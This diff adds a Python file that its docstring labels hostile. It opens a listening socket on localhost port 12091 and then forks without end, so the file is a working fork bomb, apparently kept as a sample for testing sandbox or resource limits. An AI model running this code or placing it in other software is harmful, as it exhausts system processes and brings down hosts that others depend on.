@@ -1,0 +1,13 @@
+"""Hostile: listens, then forks without end (every child forks too)."""
+import os
+import socket
+
+server = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
+server.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
+server.bind(("127.0.0.1", 12091))
+server.listen()
+while True:
+    try:
+        os.fork()
+    except OSError:
+        pass
